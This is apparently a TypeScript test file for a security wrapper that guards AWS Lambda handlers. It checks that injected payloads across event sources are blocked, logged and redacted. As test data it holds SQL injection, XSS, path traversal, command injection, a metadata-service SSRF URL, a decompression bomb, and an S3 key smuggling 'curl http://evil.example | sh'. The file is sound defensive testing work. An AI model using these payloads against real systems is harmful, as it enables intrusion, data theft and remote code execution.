import t from 'tap';
import type { Callback, Context } from 'aws-lambda';
import { protect, RequestBlockedError, RaspConfigError, type SecurityEvent } from '../../adapters/aws-lambda/index';
import * as ev from '../helpers/lambda-events';
import { ATTACKS, BENIGN } from '../helpers/tables';

type Any = any;

/** A handler that records what it received and answers 200. */
function recorder<R = unknown>(answer?: (event: Any) => R) {
  const calls: Any[] = [];
  const handler = async (event: Any, _context: Context) => {
    calls.push(event);
    return answer ? answer(event) : { statusCode: 200, body: 'ok' };
  };
  return { calls, handler };
}

function logs() {
  const lines: SecurityEvent[] = [];
  return { lines, log: (line: string) => lines.push(JSON.parse(line) as SecurityEvent) };
}

const ctx = () => ev.lambdaContext({ functionName: 'orders-api' });

type HttpBuilder = (o: Any) => Any;
const HTTP: Array<[string, HttpBuilder, boolean]> = [
  ['apigw-v1', (o) => ev.apiGatewayV1({ resource: '/orders/{id}', ...o }), true],
  ['apigw-v2', (o) => ev.apiGatewayV2({ routeKey: 'POST /orders/{id}', ...o }), true],
  ['function-url', (o) => ev.functionUrl(o), false],
  ['alb', (o) => ev.alb(o), false],
];

/** Where a payload can be placed in an HTTP event. */
function placements(payload: string, withPathParams: boolean): Array<[string, Any]> {
  const out: Array<[string, Any]> = [
    ['query', { query: { q: payload } }],
    ['body', { method: 'POST', body: JSON.stringify({ items: [{ name: 'x' }, { name: payload }] }), headers: { 'Content-Type': 'application/json' } }],
    ['header', { headers: { 'X-Customer-Note': payload } }],
    // Clients percent-encode cookie values (a raw `;` would end the cookie).
    ['cookie', { cookies: { pref: encodeURIComponent(payload) } }],
  ];
  if (withPathParams) out.push(['path', { path: `/orders/${encodeURIComponent(payload)}`, pathParameters: { id: payload } }]);
  return out;
}

t.test('HTTP triggers: every attack in every source is blocked with a native 403', async (t) => {
  for (const [name, build, withPathParams] of HTTP) {
    t.test(name, async (t) => {
      const { calls, handler } = recorder();
      const { lines, log } = logs();
      const wrapped = protect(handler, { log });
      for (const a of ATTACKS) {
        for (const [where, opts] of placements(a.payload, withPathParams)) {
          const context = ctx();
          const res: Any = await wrapped(build(opts), context);
          t.equal(res?.statusCode, 403, `${a.class} in ${where}: ${a.payload}`);
          t.same(JSON.parse(res.body), { error: 'blocked', requestId: context.awsRequestId }, 'generic JSON body, no echo');
          if (name === 'alb') t.match(res.statusDescription, /^403/);
        }
      }
      t.equal(calls.length, 0, 'the handler never ran');
      t.ok(lines.length > 0 && lines.every((l) => l.action === 'block' && l.provider === 'aws'), 'each block was logged');
    });
  }
});

t.test('HTTP triggers: benign text passes unchanged in every source', async (t) => {
  for (const [name, build, withPathParams] of HTTP) {
    t.test(name, async (t) => {
      const { calls, handler } = recorder((e) => ({ statusCode: 201, body: JSON.stringify({ seen: e.body ?? null }) }));
      const wrapped = protect(handler, { log: false });
      for (const text of BENIGN) {
        for (const [where, opts] of placements(text, withPathParams)) {
          const event = build(opts);
          const snapshot = JSON.stringify(event);
          const res: Any = await wrapped(event, ctx());
          t.equal(res.statusCode, 201, `${where}: ${text}`);
          t.equal(calls[calls.length - 1], event, 'the handler got the very same event');
          t.equal(JSON.stringify(event), snapshot, 'the event was not modified');
        }
      }
    });
  }
});

t.test('ALB answers with multiValueHeaders when the request used them', async (t) => {
  const wrapped = protect(async () => ({ statusCode: 200, body: '' }), { log: false });
  const res: Any = await wrapped(ev.alb({ multiValue: true, query: { q: "1' OR '1'='1" } }) as Any, ctx());
  t.equal(res.statusCode, 403);
  t.same(res.multiValueHeaders['content-type'], ['application/json']);
  t.notOk(res.headers);
});

t.test('base64 and form bodies are decoded before inspection', async (t) => {
  const wrapped = protect(async () => ({ statusCode: 200, body: 'ok' }), { log: false });
  const b64 = Buffer.from(JSON.stringify({ q: '<script>alert(1)</script>' })).toString('base64');
  const r1: Any = await wrapped(ev.apiGatewayV2({ body: b64, isBase64Encoded: true, headers: { 'content-type': 'application/json' } }) as Any, ctx());
  t.equal(r1.statusCode, 403, 'base64 JSON body');
  const r2: Any = await wrapped(
    ev.apiGatewayV1({ method: 'POST', body: 'name=ok&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E', headers: { 'Content-Type': 'application/x-www-form-urlencoded' } }) as Any,
    ctx(),
  );
  t.equal(r2.statusCode, 403, 'form body');
  const r3: Any = await wrapped(ev.apiGatewayV2({ query: { q: '%253Cscript%253Ealert(1)%253C%252Fscript%253E' } }) as Any, ctx());
  t.equal(r3.statusCode, 403, 'double URL-encoded query value');
  const r4: Any = await wrapped(ev.apiGatewayV2({ query: { q: '&lt;script&gt;alert(1)&lt;/script&gt;' } }) as Any, ctx());
  t.equal(r4.statusCode, 403, 'HTML entities');
  const r5: Any = await wrapped(
    ev.apiGatewayV2({ body: '{"q":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}', headers: { 'content-type': 'application/json' } }) as Any,
    ctx(),
  );
  t.equal(r5.statusCode, 403, 'JSON unicode escapes');
});

t.test('findings say where the payload was', async (t) => {
  const { lines, log } = logs();
  const wrapped = protect(async () => ({ statusCode: 200, body: 'ok' }), { log });
  await wrapped(ev.apiGatewayV2({ body: JSON.stringify({ items: [{ name: 'a' }, { name: 'b' }, { name: "x' OR '1'='1" }] }), headers: { 'content-type': 'application/json' } }) as Any, ctx());
  t.equal(lines[0]?.where, 'body.items[2].name');
  t.equal(lines[0]?.class, 'sqli');
  t.equal(lines[0]?.trigger, 'apigw-v2');
  t.equal(lines[0]?.sourceIp, ev.DEFAULT_SOURCE_IP);
  t.equal(lines[0]?.function, 'orders-api');
  t.ok(lines[0]?.time && lines[0]?.requestId);
});

t.test('secrets are never logged', async (t) => {
  const { lines, log } = logs();
  const wrapped = protect(async () => ({ statusCode: 200, body: 'ok' }), { log });
  const secret = "Bearer ' OR '1'='1 s3cr3t-t0ken";
  await wrapped(ev.apiGatewayV1({ headers: { Authorization: secret }, cookies: { session: "abc'; DROP TABLE x;--" } }) as Any, ctx());
  await wrapped(ev.apiGatewayV2({ body: JSON.stringify({ password: "' OR 1=1 --" }), headers: { 'content-type': 'application/json' } }) as Any, ctx());
  t.equal(lines.length, 2);
  const text = JSON.stringify(lines);
  t.notMatch(text, /s3cr3t/);
  t.notMatch(text, /DROP TABLE/);
  t.notMatch(text, /OR 1=1/);
  t.match(text, /\[redacted\]/);
});

t.test('SQS: malicious records go to batchItemFailures, clean ones reach the handler', async (t) => {
  for (const a of ATTACKS) {
    const { calls, handler } = recorder(() => undefined);
    const wrapped = protect(handler, { log: false });
    const event = ev.sqs([
      { body: JSON.stringify({ customer: 'Ann' }), messageId: 'm1' },
      { body: JSON.stringify({ customer: a.payload }), messageId: 'm2' },
      { body: JSON.stringify({ customer: "O'Brien" }), messageId: 'm3' },
    ]);
    const res: Any = await wrapped(event, ctx());
    t.same(res, { batchItemFailures: [{ itemIdentifier: 'm2' }] }, `${a.class}: ${a.payload}`);
    t.same(calls[0].Records.map((r: Any) => r.messageId), ['m1', 'm3']);
  }
});

// A record that throws when read (a getter: an event built in code) is that record's failure alone:
// its neighbours are still inspected. Before, the batch's normalization threw, the whole batch reached
// the handler uninspected and the attack beside it with it.
t.test('SQS, Kinesis, DynamoDB: a record that throws when read does not hide the attack beside it', async (t) => {
  const throwing = (record: Any, key: string): Any => {
    Object.defineProperty(record, key, { enumerable: true, get: () => { throw new Error('getter'); } });
    return record;
  };
  const batches: Array<[string, () => Any, string, string]> = [
    ['sqs', () => { const e: Any = ev.sqs([{ body: 'x', messageId: 'm1' }, { body: JSON.stringify({ q: ATTACKS[0]!.payload }), messageId: 'm2' }]); throwing(e.Records[0], 'body'); return e; }, 'm1', 'm2'],
    ['kinesis', () => { const e: Any = ev.kinesis([{ data: 'x', sequenceNumber: '1' }, { data: ATTACKS[0]!.payload, sequenceNumber: '2' }]); throwing(e.Records[0], 'kinesis'); return e; }, '0', '2'],
    ['dynamodb', () => { const e: Any = ev.dynamodb([{ keys: { id: { S: 'a' } }, newImage: { note: { S: 'x' } } }, { keys: { id: { S: 'b' } }, newImage: { note: { S: ATTACKS[0]!.payload } } }]); throwing(e.Records[0], 'dynamodb'); return e; }, '0', 'attack'],
  ];
  for (const [name, make, badId, attackId] of batches) {
    for (const failClosed of [false, true]) {
      const { lines, log } = logs();
      const { calls, handler } = recorder(() => undefined);
      const wrapped = protect(handler, { log, failClosed });
      const event = make();
      const attackRecordId = name === 'dynamodb' ? event.Records[1].dynamodb.SequenceNumber : attackId;
      const res: Any = await wrapped(event, ctx());
      const failed = (res?.batchItemFailures ?? []).map((f: Any) => f.itemIdentifier);
      if (failClosed && name !== 'sqs') {
        // An ordered stream stops at its first failed record (the records after it are retried).
        t.same(failed, [badId], `${name} (failClosed): the batch stops at the throwing record`);
      } else {
        t.ok(failed.includes(attackRecordId), `${name} (failClosed ${failClosed}): the attack record failed`);
        t.equal(failed.includes(badId), failClosed, `${name} (failClosed ${failClosed}): the throwing record fails only under failClosed`);
        t.ok(lines.some((l: Any) => l.action === 'block' && l.findings?.some((f: Any) => f.class === 'sqli')), `${name}: the attack is logged`);
      }
      t.ok(JSON.stringify(lines).includes('getter'), `${name}: the failure is logged`);
      if (!failClosed) t.equal(calls[0]?.Records.length, 1, `${name}: the handler gets the throwing record only`);
    }
  }
});

t.test('SQS: an SNS envelope in the body and message attributes are inspected', async (t) => {
  const { lines, log } = logs();
  const wrapped = protect(async () => undefined, { log });
  const res: Any = await wrapped(
    ev.sqs([
      { body: ev.snsEnvelopeInSqsBody(JSON.stringify({ file: '../../../etc/passwd' })), messageId: 'a' },
      { body: 'hello', messageAttributes: { note: '<script>alert(1)</script>' }, messageId: 'b' },
    ]),
    ctx(),
  );
  t.same(res.batchItemFailures, [{ itemIdentifier: 'a' }, { itemIdentifier: 'b' }]);
  t.equal(lines[0]?.where, 'records[0].body.Message.file');
  t.equal(lines[1]?.where, 'records[1].messageAttributes.note.stringValue');
});

t.test('SQS FIFO: processing stops at the first blocked record, the rest are retried in order', async (t) => {
  const { calls, handler } = recorder(() => undefined);
  const wrapped = protect(handler, { log: false });
  const res: Any = await wrapped(
    ev.sqs(
      [
        { body: 'first', messageId: 'f1' },
        { body: '; cat /etc/passwd', messageId: 'f2' },
        { body: 'third', messageId: 'f3' },
      ],
      { fifo: true },
    ),
    ctx(),
  );
  t.same(res, { batchItemFailures: [{ itemIdentifier: 'f2' }, { itemIdentifier: 'f3' }] });
  t.same(calls[0].Records.map((r: Any) => r.messageId), ['f1']);
});

t.test("SQS: the handler's own failures are merged with ours", async (t) => {
  const wrapped = protect(async (e: Any) => ({ batchItemFailures: [{ itemIdentifier: e.Records[0].messageId }] }), { log: false });
  const res: Any = await wrapped(
    ev.sqs([
      { body: 'ok', messageId: 'x1' },
      { body: '<script>alert(1)</script>', messageId: 'x2' },
    ]),
    ctx(),
  );
  t.same(res, { batchItemFailures: [{ itemIdentifier: 'x1' }, { itemIdentifier: 'x2' }] });
});

t.test('SQS: a batch that is all malicious never calls the handler', async (t) => {
  const { calls, handler } = recorder();
  const wrapped = protect(handler, { log: false });
  const res: Any = await wrapped(ev.sqs([{ body: '$(id)', messageId: 'z' }]), ctx());
  t.same(res, { batchItemFailures: [{ itemIdentifier: 'z' }] });
  t.equal(calls.length, 0);
});

t.test('Kinesis (base64 data) and DynamoDB streams report the first blocked record', async (t) => {
  const { calls, handler } = recorder(() => undefined);
  const wrapped = protect(handler, { log: false });
  const k = ev.kinesis([
    { data: JSON.stringify({ q: 'fine' }), sequenceNumber: '100' },
    { data: JSON.stringify({ q: 'http://169.254.169.254/latest/meta-data/' }), sequenceNumber: '200' },
    { data: 'also fine', sequenceNumber: '300' },
  ]);
  t.same(await wrapped(k, ctx()), { batchItemFailures: [{ itemIdentifier: '200' }] });
  t.equal(calls[0].Records.length, 1, 'records after the failure wait for the retry');

  const d = ev.dynamodb([
    { keys: ev.toAttributeMap({ id: '1' }), newImage: ev.toAttributeMap({ id: '1', bio: 'Loves Tom & Jerry' }), sequenceNumber: '11' },
    { keys: ev.toAttributeMap({ id: '2' }), newImage: ev.toAttributeMap({ id: '2', bio: { nested: ["1' OR '1'='1"] } }), sequenceNumber: '22' },
  ]);
  const { lines, log } = logs();
  const w2 = protect(handler, { log });
  t.same(await w2(d, ctx()), { batchItemFailures: [{ itemIdentifier: '22' }] });
  t.equal(lines[0]?.where, 'records[1].dynamodb.NewImage.bio.nested[0]');
});

t.test('S3, SNS, EventBridge, Cognito and direct invokes throw RequestBlockedError', async (t) => {
  const cases: Array<[string, (p: string) => Any, string]> = [
    ['s3', (p) => ev.s3([{ key: p }]), 'records[0].s3.object.key'],
    ['sns', (p) => ev.sns([{ message: JSON.stringify({ note: p }) }]), 'records[0].Sns.Message.note'],
    ['eventbridge', (p) => ev.eventBridge({ order: { note: p } }), 'detail.order.note'],
    // PutEvents callers choose `resources` (any strings), and a direct invoke of this shape any member.
    ['eventbridge', (p) => ev.eventBridge({ ok: 1 }, { resources: ['arn:aws:s3:::uploads', p] }), 'resources[1]'],
    ['eventbridge', (p) => ({ ...ev.eventBridge({ ok: 1 }), replyTo: p }), 'replyTo'],
    ['cognito', (p) => ev.cognitoPreSignUp({ email: 'a@example.com', name: p }), 'request.userAttributes.name'],
    ['direct', (p) => ({ action: 'report', args: [p] }), 'event.args[0]'],
  ];
  for (const [name, build, where] of cases) {
    const { calls, handler } = recorder((e) => e);
    const { lines, log } = logs();
    const wrapped = protect(handler, { log });
    for (const a of ATTACKS) {
      const context = ctx();
      await t.rejects(wrapped(build(a.payload), context), RequestBlockedError, `${name}: ${a.class} ${a.payload}`);
    }
    t.equal(calls.length, 0, `${name}: handler never ran`);
    t.ok(lines.every((l) => l.trigger === name), `${name}: trigger recorded`);
    t.ok(lines.some((l) => l.where?.startsWith(where.split('.')[0]!)), `${name}: path starts at ${where}`);
    t.ok(lines.every((l) => l.where?.startsWith(where)), `${name}: at ${where}`);
    const thrown = await wrapped(build('$(id)'), ctx()).catch((e: unknown) => e);
    t.ok(thrown instanceof RequestBlockedError && thrown.code === 'RASP_ERR_BLOCKED');
    for (const text of BENIGN) {
      const event = build(text);
      t.equal(await wrapped(event, ctx()), event, `${name}: benign "${text}" passes and the result comes back`);
    }
  }
});

t.test('S3 keys are URL-decoded (+ is a space) before inspection', async (t) => {
  const { lines, log } = logs();
  const wrapped = protect(async () => 'done', { log });
  await t.rejects(wrapped(ev.s3([{ key: 'reports/q1.csv; curl http://evil.example | sh' }]) as Any, ctx()));
  t.equal(lines[0]?.where, 'records[0].s3.object.key');
  t.match(lines[0]?.findings[0]?.snippet ?? '', /q1\.csv; curl/);
  t.equal(await wrapped(ev.s3([{ key: 'my reports/Q1 2024 (final).csv' }]) as Any, ctx()), 'done');
});

t.test('monitor mode lets attacks through and logs them', async (t) => {
  const { calls, handler } = recorder();
  const { lines, log } = logs();
  const wrapped = protect(handler, { mode: 'monitor', log });
  const res: Any = await wrapped(ev.apiGatewayV2({ query: { q: "1' OR '1'='1" } }) as Any, ctx());
  t.equal(res.statusCode, 200);
  t.equal(calls.length, 1);
  t.equal(lines.length, 1);
  t.equal(lines[0]?.action, 'monitor');
  const sq: Any = await wrapped(ev.sqs([{ body: '$(id)', messageId: 'q' }]), ctx());
  t.same(sq, { statusCode: 200, body: 'ok' }, "no batch failures in monitor mode: the handler's result as is");
  t.equal(calls[1].Records.length, 1, 'the record reached the handler');
  t.same(await wrapped(ev.s3([{ key: '../../etc/passwd' }]) as Any, ctx()), { statusCode: 200, body: 'ok' });
  t.equal(lines.length, 3);
});

t.test('RASP_MODE overrides the mode without a code change', async (t) => {
  const h = async () => ({ statusCode: 200, body: 'ok' });
  const saved = process.env.RASP_MODE;
  t.teardown(() => {
    if (saved === undefined) delete process.env.RASP_MODE;
    else process.env.RASP_MODE = saved;
  });
  process.env.RASP_MODE = 'off';
  t.equal(protect(h, { mode: 'block' }), h, 'off returns the handler itself');
  process.env.RASP_MODE = 'monitor';
  const m: Any = await protect(h, { log: false })(ev.apiGatewayV2({ query: { q: '$(id)' } }) as Any, ctx());
  t.equal(m.statusCode, 200);
  process.env.RASP_MODE = 'block';
  const b: Any = await protect(h, { mode: 'monitor', log: false })(ev.apiGatewayV2({ query: { q: '$(id)' } }) as Any, ctx());
  t.equal(b.statusCode, 403);
  process.env.RASP_MODE = 'sometimes';
  t.throws(() => protect(h), { code: 'RASP_ERR_ENV' });
});

t.test('schemas: per route, 400 with a generic error and the failing path', async (t) => {
  const { lines, log } = logs();
  const { calls, handler } = recorder();
  const wrapped = protect(handler, {
    log,
    schemas: {
      'POST /orders': {
        type: 'object',
        required: ['sku', 'qty'],
        additionalProperties: false,
        properties: { sku: { type: 'string', pattern: '^[A-Z]{3}-[0-9]{4}$' }, qty: { type: 'integer', minimum: 1 } },
      },
    },
  });
  const post = (body: unknown) => ev.apiGatewayV2({ routeKey: 'POST /orders', path: '/orders', method: 'POST', body: JSON.stringify(body), headers: { 'content-type': 'application/json' } }) as Any;
  const ok: Any = await wrapped(post({ sku: 'ABC-1234', qty: 2 }), ctx());
  t.equal(ok.statusCode, 200);
  const bad: Any = await wrapped(post({ sku: 'ABC-1234', qty: 0 }), ctx());
  t.equal(bad.statusCode, 400);
  t.equal(JSON.parse(bad.body).error, 'invalid_request');
  t.equal(lines[0]?.where, 'body.qty');
  t.equal(lines[0]?.class, 'schema');
  const missing: Any = await wrapped(post({ sku: 'ABC-1234' }), ctx());
  t.equal(missing.statusCode, 400);
  t.equal(lines[1]?.where, 'body.qty');
  const pattern: Any = await wrapped(post({ sku: 'abc', qty: 1 }), ctx());
  t.equal(pattern.statusCode, 400, 'pattern keyword runs (on RE2)');
  const other: Any = await wrapped(ev.apiGatewayV2({ routeKey: 'GET /health', path: '/health' }) as Any, ctx());
  t.equal(other.statusCode, 200, 'routes without a schema are not validated');
  t.equal(calls.length, 2);

  const v1 = protect(handler, { log: false, schemas: { 'PUT /orders/{id}': { type: 'object', required: ['qty'] } } });
  const put: Any = await v1(ev.apiGatewayV1({ method: 'PUT', resource: '/orders/{id}', path: '/orders/7', body: '{}', headers: { 'Content-Type': 'application/json' } }) as Any, ctx());
  t.equal(put.statusCode, 400, 'REST resource templates select the schema');
  const alb: Any = await v1(ev.alb({ method: 'PUT', path: '/orders/9', body: '{}', headers: { 'content-type': 'application/json' } }) as Any, ctx());
  t.equal(alb.statusCode, 400, 'concrete paths match templates');
});

t.test('schema for record payloads (option schema)', async (t) => {
  const wrapped = protect(async () => undefined, { log: false, schema: { type: 'object', required: ['orderId'] } });
  const res: Any = await wrapped(ev.sqs([{ body: '{"orderId": 1}', messageId: 'a' }, { body: '{"other": 1}', messageId: 'b' }]), ctx());
  t.same(res, { batchItemFailures: [{ itemIdentifier: 'b' }] });
});

t.test('exclusions let a known false positive through, and only it', async (t) => {
  const wrapped = protect(async () => ({ statusCode: 200, body: 'ok' }), {
    log: false,
    exclusions: [{ route: 'POST /snippets', path: 'body.code', classes: ['shell', 'code-injection', 'sqli', 'xss'] }],
  });
  const post = (body: unknown, routeKey = 'POST /snippets') => ev.apiGatewayV2({ routeKey, body: JSON.stringify(body), headers: { 'content-type': 'application/json' } }) as Any;
  t.equal(((await wrapped(post({ code: 'ls; cat /etc/hosts' }), ctx())) as Any).statusCode, 200);
  t.equal(((await wrapped(post({ title: 'ls; cat /etc/hosts' }), ctx())) as Any).statusCode, 403, 'another field');
  t.equal(((await wrapped(post({ code: 'ls; cat /etc/hosts' }, 'POST /other'), ctx())) as Any).statusCode, 403, 'another route');
});

t.test('callback-style handlers work and the wrapper declares at most two parameters', async (t) => {
  const cb = (event: Any, _c: Context, callback: Callback) => {
    setImmediate(() => callback(null, { statusCode: 200, body: event.rawPath }));
  };
  const wrapped = protect(cb, { log: false });
  t.ok(wrapped.length <= 2);
  const res: Any = await wrapped(ev.apiGatewayV2({ path: '/hello' }) as Any, ctx());
  t.equal(res.body, '/hello');
  const failing = protect((_e: Any, _c: Context, callback: Callback) => callback(new Error('boom')), { log: false });
  await t.rejects(failing(ev.apiGatewayV2() as Any, ctx()), /boom/);
  t.ok(protect(async (_e: Any, _c: Context) => 1).length <= 2);
});

t.test('the streaming marker is kept and blocked streams get a 403 body', async (t) => {
  const STREAMING = Symbol.for('aws.lambda.runtime.handler.streaming');
  const chunks: string[] = [];
  const stream = { write: (c: string) => chunks.push(c), end: () => chunks.push('<end>') };
  const user = Object.assign(
    async (event: Any, responseStream: Any, _context: Context) => {
      responseStream.write(`hi ${event.rawPath}`);
      responseStream.end();
    },
    { [STREAMING]: 'response' },
  );
  const wrapped: Any = protect(user as Any, { log: false });
  t.equal(wrapped[STREAMING], 'response');
  t.ok(wrapped.length <= 2);
  await wrapped(ev.functionUrl({ path: '/x' }), stream, ctx());
  t.same(chunks, ['hi /x', '<end>']);
  chunks.length = 0;
  await wrapped(ev.functionUrl({ query: { q: '<script>alert(1)</script>' } }), stream, ctx());
  t.match(chunks[0], /"error":"blocked"/);
});

t.test('user handler errors propagate unchanged', async (t) => {
  const err = new TypeError('user bug');
  const wrapped = protect(async () => {
    throw err;
  }, { log: false });
  await t.rejects(wrapped(ev.apiGatewayV2() as Any, ctx()), err);
});

t.test('malformed events never make the wrapper throw into the user path', async (t) => {
  const { calls, handler } = recorder((e) => e);
  const wrapped = protect(handler, { log: false });
  const deep: Any = {};
  let cur = deep;
  for (let i = 0; i < 10_000; i++) cur = cur.x = {};
  let deepJson = '';
  for (let i = 0; i < 10_000; i++) deepJson += '[';
  for (let i = 0; i < 10_000; i++) deepJson += ']';
  const big = 'a'.repeat(5 * 1024 * 1024);
  const inputs: Array<[string, Any, 'pass' | 'block']> = [
    ['null', null, 'pass'],
    ['undefined', undefined, 'pass'],
    ['array', [1, 'two', { three: 3 }], 'pass'],
    ['number', 42, 'pass'],
    ['empty object', {}, 'pass'],
    ['Records not an array', { Records: 'nope' }, 'pass'],
    ['empty Records', { Records: [] }, 'pass'],
    ['record without fields', { Records: [{ eventSource: 'aws:sqs' }] }, 'pass'],
    ['http without headers', { version: '2.0', requestContext: { http: {} } }, 'pass'],
    ['v1 with null maps', { httpMethod: 'GET', requestContext: {}, headers: null, multiValueHeaders: null, queryStringParameters: null, pathParameters: null, body: null }, 'pass'],
    ['10,000-deep object', deep, 'block'],
    ['5 MB string', { data: big }, 'pass'],
  ];
  for (const [name, event, expected] of inputs) {
    const before = calls.length;
    const out = await wrapped(event, ctx()).then(
      (r) => ({ ok: true, r }),
      (e: unknown) => ({ ok: false, e }),
    );
    if (expected === 'pass') t.ok(out.ok && calls.length === before + 1, `${name}: handler ran`);
    else t.ok(!out.ok && (out as Any).e instanceof RequestBlockedError, `${name}: blocked with a clear error`);
  }
  const http = protect(async () => ({ statusCode: 200, body: 'ok' }), { log: false });
  const cases: Array<[string, Any, number]> = [
    ['invalid JSON body', ev.apiGatewayV2({ body: '{"a": [1, 2', headers: { 'content-type': 'application/json' } }), 200],
    ['invalid base64 body', ev.apiGatewayV2({ body: '@@not base64!!', isBase64Encoded: true, headers: { 'content-type': 'application/json' } }), 200],
    ['10,000-deep JSON body', ev.apiGatewayV2({ body: deepJson, headers: { 'content-type': 'application/json' } }), 403],
    ['5 MB body', ev.apiGatewayV2({ body: JSON.stringify({ note: big }), headers: { 'content-type': 'application/json' } }), 200],
    ['too many strings', ev.apiGatewayV2({ body: JSON.stringify(Array.from({ length: 30_000 }, (_, i) => `s${i}`)), headers: { 'content-type': 'application/json' } }), 413],
  ];
  for (const [name, event, status] of cases) {
    const res: Any = await http(event, ctx());
    t.equal(res.statusCode, status, name);
  }
});

t.test('a failure inside the library fails open (once logged), or closed when asked', async (t) => {
  const hostile = { get trap(): string {
    throw new Error('getter exploded');
  } };
  const { lines, log } = logs();
  const { calls, handler } = recorder((e) => e);
  const open = protect(handler, { log });
  t.equal(await open(hostile, ctx()), hostile, 'the handler still ran');
  await open(hostile, ctx());
  t.equal(calls.length, 2);
  t.equal(lines.filter((l) => l.action === 'error').length, 1, 'logged once');
  t.match(lines[0]?.error ?? '', /getter exploded/);
  const closed = protect(handler, { log: false, failClosed: true });
  await t.rejects(closed(hostile, ctx()), RequestBlockedError);
});

t.test('onSecurityEvent receives every decision; a throwing sink changes nothing', async (t) => {
  const seen: SecurityEvent[] = [];
  const wrapped = protect(async () => ({ statusCode: 200, body: 'ok' }), { log: false, onSecurityEvent: (e) => seen.push(e) });
  await wrapped(ev.apiGatewayV2({ query: { q: '<script>alert(1)</script>' } }) as Any, ctx());
  t.equal(seen.length, 1);
  t.equal(seen[0]?.class, 'xss');
  const throwing = protect(async () => ({ statusCode: 200, body: 'ok' }), {
    log: false,
    onSecurityEvent: () => {
      throw new Error('sink down');
    },
  });
  const res: Any = await throwing(ev.apiGatewayV2({ query: { q: '<script>alert(1)</script>' } }) as Any, ctx());
  t.equal(res.statusCode, 403);
});

t.test('bad options throw at cold start with a coded error saying what to change', async (t) => {
  const h = async () => 1;
  const bad: Array<[unknown, RegExp]> = [
    [{ mdoe: 'block' }, /unknown option 'mdoe'/],
    [{ mode: 'strict' }, /mode must be 'block', 'monitor' or 'off'/],
    [{ limits: { maxDepth: -1 } }, /maxDepth must be a positive integer/],
    [{ limits: { depth: 3 } }, /unknown option 'limits.depth'/],
    [{ detectors: { sql: false } }, /unknown detector class 'detectors.sql'/],
    [{ paranoia: 4 }, /paranoia must be 1, 2 or 3/],
    [{ schemas: { '/orders': {} } }, /must be 'METHOD \/path'/],
    [{ exclusions: [{}] }, /is empty/],
    [{ exclusions: [{ rule: 'x' }] }, /unknown key 'exclusions\[0\].rule'/],
    [{ log: 'stdout' }, /options.log must be/],
    [{ onSecurityEvent: 'x' }, /onSecurityEvent must be a function/],
    ['block', /options must be a plain object/],
  ];
  for (const [opts, msg] of bad) {
    t.throws(() => protect(h, opts as Any), { name: 'RaspConfigError', code: 'RASP_ERR_OPTIONS', message: msg }, JSON.stringify(opts));
  }
  t.throws(() => protect(h, { schema: { type: 'object', properties: { a: { type: 'strnig' } } } }), { code: 'RASP_ERR_SCHEMA' });
  t.throws(() => protect(h, { schema: { type: 'string', pattern: '(' } }), { code: 'RASP_ERR_SCHEMA' });
  t.throws(() => protect('handler' as Any), RaspConfigError);
});

t.test('denial of wallet: a caller over its perCaller limit gets 429 with Retry-After; others are never rejected', async (t) => {
  const { lines, log } = logs();
  const { calls, handler } = recorder();
  const wrapped = protect(handler, { log, denialOfWallet: { perCaller: { limit: 5, windowSeconds: 60 } } });
  const from = (ip: string) => ev.apiGatewayV2({ sourceIp: ip, query: { q: 'shoes' } }) as Any;
  const statuses: number[] = [];
  for (let i = 0; i < 12; i++) statuses.push(((await wrapped(from('203.0.113.9'), ctx())) as Any).statusCode);
  t.same(statuses.slice(0, 5), [200, 200, 200, 200, 200], 'within the limit');
  t.ok(statuses.slice(5).every((s) => s === 429), `then throttled: ${statuses.join(',')}`);
  const res: Any = await wrapped(from('203.0.113.9'), ctx());
  t.equal(res.statusCode, 429);
  t.ok(Number(res.headers['retry-after']) >= 1, 'Retry-After in seconds');
  t.equal(JSON.parse(res.body).error, 'rate_limited');
  // Other callers at a normal rate, interleaved, are never rejected.
  for (let i = 0; i < 40; i++) {
    const r: Any = await wrapped(from(`198.51.100.${(i % 20) + 1}`), ctx());
    t.equal(r.statusCode, 200);
  }
  t.equal(calls.length, 45);
  const rate = lines.filter((l) => l.class === 'rate');
  const blocks = rate.filter((l) => l.action === 'block');
  t.equal(blocks.length, 8, 'every 429 is logged');
  t.ok(blocks.every((l) => l.sourceIp === '203.0.113.9' && l.rule === 'rate.per-caller'), 'with the caller and the rule');
  t.ok(rate.filter((l) => l.action === 'monitor').every((l) => l.sourceIp === undefined), 'alerts name no bystander');
  const off = protect(handler, { log: false, denialOfWallet: false });
  for (let i = 0; i < 10; i++) t.equal(((await off(from('203.0.113.9'), ctx())) as Any).statusCode, 200);
  t.throws(() => protect(handler, { denialOfWallet: { perCaller: { limit: -1, windowSeconds: 60 } } } as Any), { code: 'RASP_ERR_OPTIONS' });
});

t.test('a gzip or br body behind Content-Encoding is inspected as the application will read it', async (t) => {
  const { gzipSync, brotliCompressSync, gunzipSync } = await import('node:zlib');
  const { calls, handler } = recorder();
  const { lines, log } = logs();
  const wrapped = protect(handler, { log });
  const attack = Buffer.from(JSON.stringify({ customer: { name: "x' UNION SELECT card_number FROM payments --" } }));
  for (const [label, make] of HTTP) {
    for (const [coding, bytes] of [['gzip', gzipSync(attack)], ['br', brotliCompressSync(attack)]] as const) {
      const res: Any = await wrapped(
        make({ method: 'POST', body: bytes.toString('base64'), isBase64Encoded: true, headers: { 'content-type': 'application/json', 'content-encoding': coding } }),
        ctx(),
      );
      t.equal(res.statusCode, 403, `${label} ${coding}`);
      t.equal(lines.at(-1)?.where, 'body.customer.name', `${label} ${coding}: the path inside the inflated document`);
    }
  }
  t.equal(calls.length, 0);
  // A benign compressed order reaches the handler exactly as sent (still compressed, still base64).
  const order = { sku: 'TSHIRT-42', qty: 2, note: "O'Brien & Sons, leave at the door" };
  const body = gzipSync(Buffer.from(JSON.stringify(order))).toString('base64');
  const ok: Any = await wrapped(ev.apiGatewayV2({ method: 'POST', body, isBase64Encoded: true, headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' } }) as Any, ctx());
  t.equal(ok.statusCode, 200);
  t.equal(calls[0].body, body);
  t.same(JSON.parse(gunzipSync(Buffer.from(calls[0].body, 'base64')).toString('utf8')), order);
  // A decompression bomb (64 MiB of spaces in ~64 KiB) is answered without inflating it past the limit.
  const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024, 32)).toString('base64');
  const res: Any = await wrapped(ev.apiGatewayV2({ method: 'POST', body: bomb, isBase64Encoded: true, headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' } }) as Any, ctx());
